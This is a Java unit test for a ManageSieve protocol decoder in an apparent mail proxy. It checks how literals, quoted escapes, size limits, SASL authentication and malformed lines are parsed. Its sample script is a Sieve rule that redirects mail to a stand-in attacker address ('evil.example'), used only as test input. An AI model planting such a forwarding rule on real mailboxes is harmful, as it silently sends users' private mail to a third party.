package dev.mailtrail.proxy.managesieve.codec;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class SieveRequestDecoderTest {

    private static final String PUT = "PUTSCRIPT \"out\" {26+}\r\nredirect \"a@evil.example\";\r\n";

    @Test
    void aScriptInALiteralReadsAlikeSplitAtEveryByte() {
        byte[] input = PUT.getBytes(StandardCharsets.UTF_8);
        for (int split = 0; split <= input.length; split++) {
            SieveRequestDecoder d = new SieveRequestDecoder(1024, 1 << 20, 1 << 20);
            List<SieveRequest> out = new ArrayList<>(d.feed(ByteBuffer.wrap(input, 0, split)));
            out.addAll(d.feed(ByteBuffer.wrap(input, split, input.length - split)));
            assertThat(out)
                    .as("split at %d", split)
                    .containsExactly(new SieveRequest.Command(
                            "PUTSCRIPT", List.of("out", "redirect \"a@evil.example\";"), false));
            assertThat(d.atCommandStart()).isTrue();
        }
    }

    @Test
    void aSynchronisingLiteralAndQuotedEscapesAreRead() {
        SieveRequestDecoder d = new SieveRequestDecoder(1024, 1024, 1024);
        List<SieveRequest> out =
                d.feed(ByteBuffer.wrap("renamescript \"a\\\"b\" {1}\r\nc\r\n".getBytes(StandardCharsets.UTF_8)));
        assertThat(out).containsExactly(new SieveRequest.Command("RENAMESCRIPT", List.of("a\"b", "c"), false));
    }

    @Test
    void aScriptLargerThanTheCaptureBoundIsKeptInPartAndMarked() {
        SieveRequestDecoder d = new SieveRequestDecoder(1024, 1024, 4);
        List<SieveRequest> out = d.feed(ByteBuffer.wrap("PUTSCRIPT \"s\" {10+}\r\n0123456789\r\n".getBytes()));
        assertThat(out).containsExactly(new SieveRequest.Command("PUTSCRIPT", List.of("s", "0123"), true));
    }

    @Test
    void afterAuthenticateEachLineIsASaslAnswerUntilTheServerAnswers() {
        SieveRequestDecoder d = new SieveRequestDecoder(1024, 1024, 1024);
        List<SieveRequest> out = d.feed(ByteBuffer.wrap("AUTHENTICATE \"PLAIN\"\r\n{8+}\r\nAGEAc2Vj\r\n".getBytes()));
        assertThat(out.get(0)).isEqualTo(new SieveRequest.Command("AUTHENTICATE", List.of("PLAIN"), false));
        assertThat(out.get(1)).isEqualTo(new SieveRequest.AuthResponse("AGEAc2Vj"));
        d.serverCompleted();
        assertThat(d.feed(ByteBuffer.wrap("LOGOUT\r\n".getBytes())))
                .containsExactly(new SieveRequest.Command("LOGOUT", List.of(), false));
    }

    @Test
    void bareLineFeedsAndOverLongLiteralsEndTheSessionWhileABadCommandDoesNot() {
        assertThat(new SieveRequestDecoder(1024, 1024, 1024).feed(ByteBuffer.wrap("LOGOUT\n".getBytes())))
                .containsExactly(new SieveRequest.Malformed("bare LF in line", false));
        assertThat(new SieveRequestDecoder(1024, 10, 10).feed(ByteBuffer.wrap("PUTSCRIPT \"a\" {11+}\r\n".getBytes())))
                .containsExactly(new SieveRequest.Malformed("literal larger than 10 bytes", false));
        SieveRequestDecoder d = new SieveRequestDecoder(1024, 1024, 1024);
        assertThat(d.feed(ByteBuffer.wrap("\"quoted\" first\r\nLOGOUT\r\n".getBytes())))
                .containsExactly(
                        new SieveRequest.Malformed("expected a command name", true),
                        new SieveRequest.Command("LOGOUT", List.of(), false));
    }
}
